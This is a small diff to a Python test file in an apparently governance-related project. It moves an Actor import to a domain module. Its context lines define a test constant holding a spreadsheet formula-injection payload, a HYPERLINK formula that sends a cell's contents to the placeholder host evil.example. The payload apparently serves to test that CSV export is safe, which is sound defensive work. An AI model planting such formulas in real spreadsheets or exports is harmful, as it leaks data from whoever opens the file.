@@ -23,9 +23,9 @@ from documents.spreadsheet import csv_bytes
 from governance.db.engine import make_engine
 from governance.db.models import Member
 from governance.db.uow import UnitOfWork
+from governance.domain.actor import Actor
 from governance.domain.register_import import COLUMNS as REGISTER_COLUMNS
 from governance.services import contracts, register_import
-from governance.services.timeline import Actor
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
